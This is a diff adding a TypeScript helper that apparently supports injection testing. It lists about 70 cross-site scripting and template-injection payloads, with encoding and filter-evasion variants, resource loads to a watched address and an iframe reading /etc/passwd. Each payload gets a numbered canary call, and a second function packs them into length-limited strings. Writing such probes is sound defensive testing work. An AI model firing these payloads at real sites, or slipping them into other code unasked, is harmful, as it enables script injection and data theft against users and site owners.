@@ -1,0 +1,87 @@
+/** What people try who want a page to run their words; HERE is the call that tells, OUT an address that is watched. */
+const WRITTEN = [
+  '<script>HERE</script>',
+  '<img src=x onerror=HERE>',
+  '"><img src=x onerror=HERE>',
+  "'><img src=x onerror=HERE>",
+  '<svg onload=HERE>',
+  '"><svg/onload=HERE>',
+  '</title><script>HERE</script>',
+  '</script><script>HERE</script>',
+  '</textarea><svg onload=HERE>',
+  'javascript:HERE',
+  'JaVaScRiPt:HERE',
+  'java%0ascript:HERE',
+  'data:text/html,<script>HERE</script>',
+  '<a href=javascript:HERE>x</a>',
+  '<iframe src=javascript:HERE>',
+  "<iframe srcdoc='<script>parent.HERE</script>'>",
+  '<body onload=HERE>',
+  '<details open ontoggle=HERE>',
+  '<input autofocus onfocus=HERE>',
+  '<video src=x onerror=HERE>',
+  '<audio src=x onerror=HERE>',
+  '<object data=javascript:HERE>',
+  '<embed src=javascript:HERE>',
+  '<marquee onstart=HERE>',
+  '<math><mi xlink:href=javascript:HERE>',
+  '<style>@import "OUT"</style>',
+  '<link rel=stylesheet href=OUT>',
+  '<base href=OUT/>',
+  '<meta http-equiv=refresh content=0;OUT>',
+  '<form action=javascript:HERE><button autofocus>',
+  '" onmouseover=HERE x="',
+  "' onfocus=HERE autofocus='",
+  '" autofocus onfocus=HERE "',
+  '`-HERE-`',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: what others' templates fill in
+  '${HERE}',
+  "{{constructor.constructor('HERE')()}}",
+  '{{HERE}}',
+  '#{HERE}',
+  '<%= HERE %>',
+  "';HERE;//",
+  '";HERE;//',
+  "\\';HERE;//",
+  '--><script>HERE</script>',
+  ']]><script>HERE</script>',
+  '*//*--><svg onload=HERE>',
+  '<scr<script>ipt>HERE</script>',
+  '<img/src/onerror=HERE>',
+  '<svg><script>HERE</script></svg>',
+  '<svg><animate onbegin=HERE attributeName=x>',
+  '<svg><a xlink:href=javascript:HERE><text>x',
+  '<img src=`x` onerror=HERE>',
+  '<IMG SRC=x OnErRoR=HERE>',
+  '&lt;script&gt;HERE&lt;/script&gt;',
+  '%3Cscript%3EHERE%3C/script%3E',
+  '\\u003cscript\\u003eHERE\\u003c/script\\u003e',
+  '+ADw-script+AD4-HERE+ADw-/script+AD4-',
+  '<noscript><p title="</noscript><svg onload=HERE>">',
+  '<template><script>HERE</script></template>',
+  '<select autofocus onfocus=HERE>',
+  '<p style="background:url(OUT)">',
+  '<img src=OUT>',
+  '<x contenteditable onfocus=HERE tabindex=1 autofocus>',
+  '#link("OUT")[x]',
+  '#image("OUT")',
+  '#eval("HERE")',
+  '\\href{OUT}{x}',
+  '<iframe src=file:///etc/passwd>',
+]
+
+/** Each with a number of its own, so that one that runs tells which it was; `out` is the address that is watched. */
+export function scriptPayloads(out: string): string[] {
+  return WRITTEN.map((text, id) => text.replaceAll('HERE', `canary(${id})`).replaceAll('OUT', out))
+}
+
+/** All of them in as few texts as there are characters for; the first of each text may be of any kind. */
+export function packed(payloads: readonly string[], most: number): string[] {
+  const texts: string[] = []
+  for (const payload of payloads) {
+    const last = texts.at(-1)
+    if (last !== undefined && last.length + payload.length < most) texts[texts.length - 1] = `${last} ${payload}`
+    else texts.push(payload.slice(0, most))
+  }
+  return texts
+}
